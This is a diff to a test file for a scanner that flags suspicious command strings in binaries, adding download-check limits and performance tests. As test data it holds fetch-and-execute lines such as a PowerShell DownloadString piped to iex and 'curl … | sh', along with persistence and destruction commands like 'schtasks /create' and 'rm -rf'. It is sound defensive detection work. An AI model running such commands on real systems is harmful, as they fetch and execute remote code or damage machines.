@@ -1,6 +1,7 @@
 import { describe, expect, it } from 'vitest';
 import {
   binaryEvidence,
+  DOWNLOAD_CHECKS,
   EVIDENCE_LIMITS,
   excerpt,
   MAX_DISTINCT,
@@ -66,11 +67,13 @@ describe('binaryEvidence', () => {
       "iex (New-Object Net.WebClient).DownloadString('https://get.acme.example/b.ps1')",
     ]);
     expect(kinds.command).toEqual(['sh -c', 'cmd /c', 'powershell -EncodedCommand', 'powershell -Command', 'rm -rf', 'schtasks /create', 'launchctl load', 'reg add', 'osascript -e']);
-    expect(kinds['download-and-run']).toEqual(['curl … | sh', 'sh -c "$(curl …)"', 'iwr … | iex', 'iex (…).DownloadString(…)']);
+    // Judged by the command catalogue (catalog/commands.ts), in its words.
+    expect(kinds['download-and-run']).toEqual(['curl … | bash', 'bash -c "$(wget …)"', 'iwr … | iex', 'iex (DownloadString …)']);
   });
 
   it('does not take a download without a shell, or a shell without a download, for download-and-run', () => {
     expect(valuesOf('download-and-run', ['curl -o out.tar.gz https://x.example/a | tee log', 'wget https://x.example/a', 'cat install.sh | sh', 'curl --version'])).toEqual([]);
+    expect(valuesOf('download-and-run', ['curl -s https://api.example.net/v1 | jq .items', 'usage: curl [options] <url> | less'])).toEqual([]);
     expect(valuesOf('command', ['shell -c', 'crash -cache', 'rm -r', 'cmd /x'])).toEqual([]);
   });
 
@@ -143,6 +146,26 @@ describe('limits', () => {
     const hosts = Array.from({ length: MAX_DISTINCT + 5 }, (_, index) => `https://h${index}.acme-metrics.net/`);
     const evidence = binaryEvidence(withStrings(HEADER, [...hosts, 'https://late.acme-metrics.net/']), context).found.get('host')!;
     expect(evidence.values).not.toContain('late.acme-metrics.net');
+  });
+});
+
+describe('download checks', () => {
+  const candidates = (count: number, from = 0) => Array.from({ length: count }, (_, index) => `curl -s https://h${from + index}.example/a | less`);
+
+  it('judges a bounded number of candidate commands per file and per search, each text once', () => {
+    const evidence = binaryEvidence(withStrings(HEADER, [...candidates(100), ...candidates(100)]), context);
+    // The first 64 texts are judged, and answered again from memory when repeated; the other 36 are left, twice.
+    expect(evidence.unjudged).toBe(2 * (100 - DOWNLOAD_CHECKS.perFile));
+    const shared = { left: 10 };
+    expect(binaryEvidence(withStrings(HEADER, candidates(20)), context, EVIDENCE_LIMITS, shared).unjudged).toBe(10);
+    expect(shared.left).toBe(0);
+    expect(binaryEvidence(withStrings(HEADER, ['curl -s https://x.example/i | sh']), context, EVIDENCE_LIMITS, shared).found.get('download-and-run')).toBeUndefined();
+  });
+
+  it('stays fast on many distinct candidates', () => {
+    const started = performance.now();
+    expect(binaryEvidence(withStrings(HEADER, candidates(50_000)), context).unjudged).toBe(50_000 - DOWNLOAD_CHECKS.perFile);
+    expect(performance.now() - started).toBeLessThan(3000);
   });
 });
 
